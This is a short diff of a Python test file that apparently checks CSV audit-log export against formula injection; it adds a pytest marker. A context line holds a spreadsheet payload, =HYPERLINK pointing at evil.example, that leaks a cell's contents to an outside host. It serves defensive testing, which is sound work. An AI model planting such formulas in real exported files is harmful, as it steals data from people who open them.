@@ -14,6 +14,8 @@ from sandbox.resources.audit_log import CSV_COLUMNS, defused, export_audit_log_c
 from sandbox.resources.request import ApiRequest
 from tests.support import auth
 
+pytestmark = pytest.mark.both_stores
+
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
 
 
